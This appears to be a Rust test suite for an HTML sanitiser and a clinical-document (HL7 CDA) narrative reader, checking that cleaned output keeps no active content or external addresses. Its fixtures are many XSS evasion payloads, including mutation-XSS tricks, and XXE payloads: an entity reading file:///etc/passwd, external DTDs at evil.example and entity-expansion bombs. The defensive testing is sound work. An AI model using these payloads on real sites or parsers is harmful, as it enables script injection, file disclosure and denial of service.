//! What attackers write into documents, and what is left of it: text and structure, nothing active, no address.
//!
//! The vectors follow OWASP's XSS Filter Evasion Cheat Sheet, the mutations of cleaned HTML that broke other cleaners
//! (namespaces, `noscript`, comments within `svg`), and OWASP's list of XML external entity attacks.

use super::{Page, cda, html};

/// Every address of a vector is at this host.
const HOST: &str = "evil.example";

const HTML: &[&str] = &[
    // Script, in every way to write it.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script\x0c>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    // Handlers of events.
    "<body onload=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)' ONFOCUS=\"alert(1)\" tabindex=0>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p/onclick=alert(1)/dir=ltr>x",
    "<p dir=\"\"onclick=alert(1)>x",
    "<p dir='\"><img src=https://evil.example/x>'>x</p>",
    // Addresses that run or hold something.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\" \x01javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<q cite=\"javascript:alert(1)\">x</q><blockquote cite=https://evil.example/>x</blockquote>",
    "<del cite=https://evil.example/>x</del><ins cite=https://evil.example/>x</ins>",
    "<td background=https://evil.example/x>x</td><table background='javascript:alert(1)'>",
    "<a ping=https://evil.example/ href=#>x</a>",
    // Other languages within HTML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
    "<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // Styles.
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"width:expression(alert(1));behavior:url(#x);-moz-binding:url(#x)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    // What loads, sends or leads away.
    "<img src=https://evil.example/pixel.png srcset=\"https://evil.example/2x 2x\">",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<link rel=prefetch href=//evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<object data=https://evil.example/x type=text/html><param name=x value=https://evil.example/></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x codebase=https://evil.example/></applet>",
    "<portal src=https://evil.example/></portal>",
    "<form action=https://evil.example/><input name=pin><button formaction=https://evil.example/>Send</button></form>",
    "<isindex action=https://evil.example/>",
    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4></video>",
    "<map><area href=https://evil.example/></map>",
    "<html manifest=https://evil.example/x>",
    "<bgsound src=https://evil.example/x>",
    "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    "<!--[if IE]><script src=https://evil.example/></script><![endif]-->",
    "<!DOCTYPE html SYSTEM \"https://evil.example/x.dtd\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    // What would change the page around it.
    "</body></html><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<p id=x class=y name=z data-x=https://evil.example/ slot=x is=x>x</p>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=https://evil.example/>",
];

/// The elements of a page's body with the names of their attributes, as a browser finds them.
fn elements(page: &str) -> Vec<(String, Vec<String>)> {
    let body = page.split_once("<body>").unwrap().1;
    let body = body.strip_suffix("</body></html>").unwrap();
    let (mut found, mut rest) = (Vec::new(), body);
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let name_ends = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '/');
        let (name, after) = rest.split_at(name_ends.unwrap());
        rest = after;
        let mut attributes = Vec::new();
        while let Some(attribute) = rest.strip_prefix(' ') {
            let (name, after) = attribute.split_once("=\"").unwrap();
            attributes.push(name.to_owned());
            rest = after.split_once('"').unwrap().1;
        }
        rest = rest.strip_prefix('>').unwrap();
        found.push((name.trim_start_matches('/').to_owned(), attributes));
    }
    found
}

fn is_harmless(vector: &str, page: &Page) {
    const ATTRIBUTES: [&str; 5] = ["colspan", "dir", "lang", "rowspan", "start"];
    for (name, attributes) in elements(&page.html) {
        let known = html::TAGS.iter().chain(&html::MORE_TAGS);
        assert!(known.into_iter().any(|it| *it == name), "{vector}: {name}");
        let odd = attributes
            .iter()
            .find(|it| !ATTRIBUTES.contains(&it.as_str()));
        assert!(odd.is_none(), "{vector}: {odd:?}");
    }
}

#[test]
fn nothing_that_is_active_and_no_address_survives_in_html() {
    for vector in HTML {
        let page = html::clean(&format!("<p>Dear Ana</p>{vector}"));
        is_harmless(vector, &page);
        assert!(page.html.contains("<p>Dear Ana</p>"), "{vector}");
        // What is cleaned is clean: once more, it is the same.
        let body = page.html.split_once("<body>").unwrap().1;
        let body = body.strip_suffix("</body></html>").unwrap();
        assert_eq!(html::clean(body).html, page.html, "{vector}");
    }
}

/// Where an address stood in an attribute, it is nowhere; as text it is text.
#[test]
fn an_address_is_left_as_text_alone() {
    let as_text = [
        "<xmp>",
        "<plaintext>",
        "<!",
        "<p dir='",
        "<svg",
        "<math",
        "<textarea",
        "--",
    ];
    for vector in HTML.iter().filter(|it| it.contains(HOST)) {
        if as_text.iter().any(|it| vector.starts_with(it)) {
            continue;
        }
        assert!(!html::clean(vector).html.contains(HOST), "{vector}");
    }
    let said = html::clean("<p>See https://evil.example/ &lt;script&gt;</p>");
    assert!(
        said.html
            .contains("See https://evil.example/ &lt;script&gt;")
    );
}

#[test]
fn nothing_that_is_active_and_no_address_survives_in_the_narrative_of_a_clinical_document() {
    for text in [
        "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
        "<paragraph onclick=\"alert(1)\" style=\"background:url(https://evil.example/)\">x</paragraph>",
        "<linkHtml href=\"javascript:alert(1)\">x</linkHtml>",
        "<linkHtml href=\"https://evil.example/\">x</linkHtml>",
        "<renderMultiMedia referencedObject=\"https://evil.example/x\"/>",
        "<content styleCode=\"Bold&quot; onclick=&quot;alert(1)\">x</content>",
        "<table background=\"https://evil.example/\"><tbody><tr><td colspan=\"2&quot; onclick=&quot;alert(1)\">x</td></tr></tbody></table>",
        "<paragraph>&lt;img src=x onerror=alert(1)&gt;</paragraph>",
        "<paragraph><![CDATA[<script>alert(1)</script>]]></paragraph>",
        "<paragraph>&#60;script&#62;alert(1)&#60;/script&#62;</paragraph>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><image href=\"https://evil.example/\"/></svg>",
        "<iframe src=\"https://evil.example/\"/><object data=\"https://evil.example/\"/><meta http-equiv=\"refresh\"/>",
        "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    ] {
        let xml = format!(
            "<?xml version=\"1.0\"?><?xml-stylesheet href=\"https://evil.example/x.xsl\"?><ClinicalDocument \
             xmlns=\"urn:hl7-org:v3\"><component><structuredBody><component><section><title>A</title><text>{text}</text>\
             </section></component></structuredBody></component></ClinicalDocument>"
        );
        let page = cda::narrative(&xml).unwrap();
        is_harmless(text, &page);
        assert!(page.html.contains("<h2>A</h2>"), "{text}");
        assert!(!page.html.contains(HOST), "{text}");
    }
}

#[test]
fn a_clinical_document_that_declares_entities_or_names_a_file_is_refused() {
    let long = "A".repeat(1_000_000);
    for declared in [
        "<!DOCTYPE x>".to_owned(),
        "<!DOCTYPE x SYSTEM \"https://evil.example/x.dtd\">".to_owned(),
        "<!DOCTYPE x PUBLIC \"-//x\" \"https://evil.example/x.dtd\">".to_owned(),
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"https://evil.example/\">]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example/x.dtd\"> %p;]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\"><!ENTITY e \"&a;\">]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY e \"&b;&b;&b;\">]>".to_owned(),
        format!("<!DOCTYPE x [<!ENTITY e \"{long}\">]>"),
        "<!doctype x [<!entity e 'x'>]>".to_owned(),
    ] {
        let xml = format!(
            "{declared}<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><component><structuredBody><component><section><text>&e;\
             </text></section></component></structuredBody></component></ClinicalDocument>"
        );
        assert_eq!(cda::narrative(&xml), Err(cda::Problem::Unreadable));
    }
    // An entity that nobody declares is none either.
    let unknown = "<ClinicalDocument><title>&e;</title></ClinicalDocument>";
    assert_eq!(cda::narrative(unknown), Err(cda::Problem::Unreadable));
}
